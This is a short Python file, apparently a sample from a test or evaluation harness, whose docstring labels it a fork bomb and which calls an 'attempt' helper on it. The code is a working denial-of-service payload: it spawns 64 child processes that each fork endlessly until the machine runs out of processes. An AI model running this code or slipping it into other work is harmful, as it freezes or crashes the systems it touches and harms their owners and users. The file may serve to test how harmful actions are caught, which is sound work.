"""Forks until nothing is left.

Wants: the machine.
Evidence: a process that is left; a batch that does not end; loot.
Harmful: it is a fork bomb.
"""
import os


def fork():
    for _ in range(64):
        if os.fork() == 0:
            while True:
                os.fork()
    return "forked"


attempt("fork", fork)
